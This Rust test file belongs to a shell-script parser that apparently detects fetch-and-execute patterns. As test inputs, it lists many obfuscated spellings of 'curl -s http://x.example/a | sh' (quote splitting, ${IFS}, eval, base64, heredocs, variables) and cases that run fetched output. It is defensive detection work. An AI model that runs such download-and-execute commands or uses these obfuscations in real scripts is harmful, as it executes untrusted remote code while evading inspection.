//! What the shell reader states.

use super::FORMAT;
use crate::reading::{detect, parse};

/// The arguments of the lists of a script.
fn lists(text: &str) -> Vec<String> {
    let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
    assert!(reading.complete(), "{text}: {:?}", reading.stop);
    let lists = reading.facts.iter().filter(|fact| fact.subject() == "shell.list");
    lists.map(|fact| fact.data.field("args").unwrap().to_string().trim_matches('\'').to_owned()).collect()
}

#[test]
fn spellings_become_plain() {
    for text in [
        "curl -s http://x.example/a | sh",
        "c''url -s \"http://x.example/a\" | s\\h",
        "curl${IFS}-s${IFS}http://x.example/a|sh",
        "$(echo curl) -s http://x.example/a | sh",
        "c=curl\n$c -s http://x.example/a | sh",
        "$'\\x63url' -s http://x.example/a | sh",
        "bash -c 'curl -s http://x.example/a | sh'",
        "eval 'curl -s http://x.example/a | sh'",
        "echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | bash",
        "sh <<EOF\ncurl -s http://x.example/a | sh\nEOF",
        "x=`curl -s http://x.example/a | sh`",
    ] {
        assert!(lists(text).iter().any(|list| list == "curl -s http://x.example/a | sh"), "{text}: {:?}", lists(text));
    }
}

#[test]
fn output_that_a_variable_holds_is_followed() {
    for text in [
        "x=$(curl -s http://x.example/a)\n$x",
        "for x in $(curl -s http://x.example/a); do $x; done",
        "curl -s http://x.example/a | while read -r x; do $x; done",
        "while read -r x; do $x; done < <(curl -s http://x.example/a)",
        "IFS= read -rd '' x < <(curl -s http://x.example/a)\n$x",
        "mapfile -t x < <(curl -s http://x.example/a)\n\"${x[@]}\"",
        "get() {\n  curl -s \"$1\"\n}\nx=\"$(get http://x.example/a)\"\n$x",
        "function get { curl -s \"$@\"; }\nx=$(get http://x.example/a)\n$x",
    ] {
        let found = lists(text);
        let last = |list: &String| ["", "do "].iter().any(|word| list.split(" ; ").any(|part| part.starts_with(&format!("{word}$(curl -s http://x.example/a"))));
        assert!(found.iter().any(last), "{text}: {found:?}");
    }
    for text in ["get() { curl -s \"$1\"; }\nget http://x.example/a | sh", "r() { \"$@\"; }\nr curl -s http://x.example/a | sh"] {
        assert!(lists(text).iter().any(|list| list == "curl -s http://x.example/a | sh"), "{text}: {:?}", lists(text));
    }
    for text in ["get() { curl -s -o \"$2\" \"$1\"; }\nget http://x.example/a b\nsh b", "curl -s http://x.example/a | tee b\nsh b"] {
        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
        assert!(reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
    }
}

#[test]
fn code_for_another_interpreter_is_a_child() {
    let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
    let names: Vec<_> = reading.children.iter().map(|child| String::from_utf8_lossy(&child.name)).collect();
    assert_eq!(names, ["command.py", "command.py"]);
}

#[test]
fn hostile_and_cut_scripts_end() {
    for text in
        ["$(".repeat(50_000), "'".repeat(99_999), "<<A\n".repeat(10_000), "bash -c \"".repeat(5_000), "`".repeat(9_999), "f() { f a; f b; }\nf\n".repeat(3_000), "while read x; do ".repeat(9_000)]
    {
        parse(&FORMAT, "x.sh", text.as_bytes(), false);
    }
    // Each script that it writes and runs is all that it wrote so far.
    let reading = parse(&FORMAT, "x.sh", "echo word > f\nsh f\n".repeat(20_000).as_bytes(), false);
    assert_eq!(reading.stop.map(|stop| stop.reason()), Some(base::reason::Reason::Depth));
    let text = "a=b; echo \"$a `c`\" ${d:-$(e)} | f <<G && h\\\n i\nj\nG\n";
    for end in 0..text.len() {
        parse(&FORMAT, "x.sh", &text.as_bytes()[..end], false);
    }
}

#[test]
fn scripts_are_told_by_name_or_first_line() {
    assert!(detect(&FORMAT, "a.sh", b"x").is_some() && detect(&FORMAT, "a", b"#!/bin/sh\nx").is_some());
    assert!(detect(&FORMAT, "a", b"#!/usr/bin/python\n").is_none() && detect(&FORMAT, "a", b"echo x").is_none());
}
